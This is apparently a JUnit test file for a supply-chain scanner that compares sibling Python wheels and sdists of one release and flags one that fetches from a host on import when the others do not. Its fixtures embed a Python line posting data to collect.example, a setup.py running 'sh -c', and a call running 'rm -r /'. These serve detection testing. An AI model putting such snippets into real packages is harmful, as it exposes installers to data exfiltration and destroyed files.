package dev.assay.core;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.core.artifact.FileTree;
import dev.assay.core.code.Budget;
import dev.assay.core.code.CodeReader;
import dev.assay.core.dossier.Scan;
import dev.assay.core.policy.Policy;
import dev.assay.core.testing.MemoryTree;
import dev.assay.core.verdict.Decision;
import dev.assay.core.verdict.Verdict;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class SiblingsTest {
  private static final String QUIET = "import os\nNAME = os.sep\n";
  private static final String LOUD =
      """
      import urllib.request
      urllib.request.urlopen("https://collect.example/in", b"hello")
      """;

  private final Scanner scanner =
      new Scanner(
          (tree, shown) -> CodeReader.read(tree, shown, Budget.DEFAULT),
          Scanner.Known.NOTHING,
          Policy.BUILT_IN,
          LocalDate.of(2026, 7, 24));
  private final Siblings siblings = new Siblings(scanner);

  @Test
  void whatOneWheelAloneDoesIsTold() {
    assertThat(differences(wheel("manylinux_2_17_x86_64", "1", QUIET))).isEmpty();
    assertThat(differences(wheel("macosx_11_0_arm64", "2", QUIET))).isEmpty();
    Scan scan = compared(wheel("win_amd64", "3", LOUD));
    assertThat(differences(scan))
        .singleElement()
        .satisfies(
            decision -> {
              assertThat(decision.verdict()).isEqualTo(Verdict.HOLD);
              assertThat(decision.finding().message())
                  .isEqualTo(
                      "`acme-1.0-py3-none-win_amd64.whl` fetches from `https://collect.example/in` when"
                          + " it is imported; `acme-1.0-py3-none-manylinux_2_17_x86_64.whl` of the"
                          + " same release does not");
              assertThat(decision.finding().location().toString()).isEqualTo("acme/__init__.py:2");
            });
  }

  @Test
  void whatTheLaterOneLacksIsToldWithThePlaceInTheEarlierOne() {
    compared(wheel("win_amd64", "1", LOUD));
    assertThat(differences(wheel("any", "2", QUIET)))
        .singleElement()
        .satisfies(
            it ->
                assertThat(it.finding().trail().getFirst())
                    .isEqualTo("acme/__init__.py:2 of acme-1.0-py3-none-win_amd64.whl"));
    assertThat(differences(wheel("macosx_11_0_arm64", "3", QUIET))).isEmpty();
  }

  @Test
  void theSourcesMayDoMoreOutsideTheirPackages() {
    compared(wheel("any", "1", QUIET));
    assertThat(
            differences(
                sdist(
                    Map.of(
                        "acme-1.0/setup.py", "import subprocess\nsubprocess.run(['sh', '-c', x])\n",
                        "acme-1.0/tests/test_a.py", LOUD,
                        "acme-1.0/src/acme/__init__.py", QUIET))))
        .isEmpty();
  }

  @Test
  void theSourcesOfThePackagesAreCompared() {
    compared(wheel("any", "1", QUIET));
    assertThat(differences(sdist(Map.of("acme-1.0/src/acme/__init__.py", LOUD)))).hasSize(1);
  }

  @Test
  void whatOnlyTestsLeadToIsNotCompared() {
    String runs = "import subprocess\ndef run(tool):\n    subprocess.run(['sh', '-c', tool])\n";
    compared(wheel("any", "1", runs));
    assertThat(
            differences(
                sdist(
                    Map.of(
                        "acme-1.0/acme/__init__.py",
                        runs,
                        "acme-1.0/tests/test_run.py",
                        "import acme\nacme.run('rm -r /')\n"))))
        .isEmpty();
  }

  @Test
  void otherReleasesFoldersAndEqualBytesAreNoSiblings() {
    compared(wheel("any", "1", QUIET));
    FileTree tree = MemoryTree.of(Map.of("acme/__init__.py", LOUD));
    assertThat(differences(artifact("acme-1.1-py3-none-any.whl", "2", tree))).isEmpty();
    assertThat(differences(artifact("other-1.0-py3-none-any.whl", "3", tree))).isEmpty();
    assertThat(differences(artifact("acme-1.0-py3-none-any.whl", "1", tree))).isEmpty();
    Artifact folder = Artifact.ofFolder(tree, "acme-1.0");
    assertThat(Sibling.of(folder, scanner.scan(folder))).isEmpty();
  }

  private List<Decision> differences(Artifact artifact) {
    return differences(compared(artifact));
  }

  private static List<Decision> differences(Scan scan) {
    return scan.decisions().stream()
        .filter(it -> it.finding().rule().id().equals("sibling-difference"))
        .toList();
  }

  private Scan compared(Artifact artifact) {
    Scan scan = scanner.scan(artifact);
    return siblings.compared(scan, Sibling.of(artifact, scan).orElseThrow());
  }

  private static Artifact wheel(String platform, String digit, String code) {
    return artifact(
        "acme-1.0-py3-none-" + platform + ".whl",
        digit,
        MemoryTree.of(Map.of("acme/__init__.py", code)));
  }

  private static Artifact sdist(Map<String, String> texts) {
    return artifact("acme-1.0.tar.gz", "9", MemoryTree.of(texts));
  }

  private static Artifact artifact(String name, String digit, FileTree tree) {
    return new Artifact(name, Optional.of(digit.repeat(64)), tree);
  }
}
